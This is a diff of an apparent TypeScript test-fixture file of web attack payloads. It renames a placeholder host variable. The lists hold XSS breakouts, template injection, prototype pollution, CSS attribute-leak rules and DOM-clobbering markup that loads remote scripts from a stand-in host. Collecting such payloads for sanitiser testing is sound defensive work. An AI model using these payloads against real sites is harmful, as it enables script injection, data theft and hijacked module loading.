@@ -1,4 +1,4 @@
-import { call, far, lines, markupPayloads } from './markup-payloads.ts';
+import { call, foreignUrl, lines, markupPayloads } from './markup-payloads.ts';
 
 const breakouts = lines`
   "><script>${call}</script>
@@ -57,7 +57,7 @@ const templates = lines`
   <% ${call} %>
   [[${call}]]
   {%25 print(1) %25}
-  {% include "${far}/t" %}
+  {% include "${foreignUrl}/t" %}
   *{${call}}
   @{${call}}
   <div v-html="'<img src=x onerror=${call}>'"></div>
@@ -67,35 +67,35 @@ const templates = lines`
   <div data-bind="html:'<img src=x onerror=${call}>'"></div>
   <button data-action="${call}" popover>x</button>
   {"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}
-  {"$$typeof":"Symbol(react.element)","type":"script","props":{"src":"${far}/r.js"}}
+  {"$$typeof":"Symbol(react.element)","type":"script","props":{"src":"${foreignUrl}/r.js"}}
   {"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}
   __proto__[innerHTML]=<img/src/onerror=${call}>
   constructor[prototype][x]=${call}
 `;
 
 const styles = lines`
-  <style>@import '${far}/c.css';</style>
-  <style>body{background:url(${far}/bg.png)}</style>
+  <style>@import '${foreignUrl}/c.css';</style>
+  <style>body{background:url(${foreignUrl}/bg.png)}</style>
   <style>*{x:expression(${call})}</style>
-  <style>@font-face{font-family:x;src:url(${far}/f)}*{font-family:x}</style>
-  <style>input[value^=a]{background:url(${far}/leak?a)}</style>
-  <div style="background:url(${far}/s)">x</div>
+  <style>@font-face{font-family:x;src:url(${foreignUrl}/f)}*{font-family:x}</style>
+  <style>input[value^=a]{background:url(${foreignUrl}/leak?a)}</style>
+  <div style="background:url(${foreignUrl}/s)">x</div>
   <div style="width:expression(${call})">x</div>
-  <div style="behavior:url(${far}/h.htc)">x</div>
-  <div style="-moz-binding:url(${far}/x.xml#y)">x</div>
-  <div style="position:fixed;inset:0;z-index:99999"><a href=${far}>x</a></div>
+  <div style="behavior:url(${foreignUrl}/h.htc)">x</div>
+  <div style="-moz-binding:url(${foreignUrl}/x.xml#y)">x</div>
+  <div style="position:fixed;inset:0;z-index:99999"><a href=${foreignUrl}>x</a></div>
   <img style="list-style:url(javascript:${call})" src=x>
   <link rel=stylesheet href=data:,*%7bx:expression(${call})%7d>
 `;
 
 const clobbers = lines`
   <form id=kallos-remotes><input name=textContent></form>
-  <a id=kallosIntegrity href=${far}>x</a>
+  <a id=kallosIntegrity href=${foreignUrl}>x</a>
   <img name=body><img name=head>
   <form name=localStorage><input name=getItem></form>
-  <iframe name=location src=${far}></iframe>
+  <iframe name=location src=${foreignUrl}></iframe>
   <div id=root></div><div id=main></div>
-  <script id=kallos-remotes type=application/json>{"remotes":[{"entry":"${far}/x.js"}]}</script>
+  <script id=kallos-remotes type=application/json>{"remotes":[{"entry":"${foreignUrl}/x.js"}]}</script>
 `;
 
 const strange = [
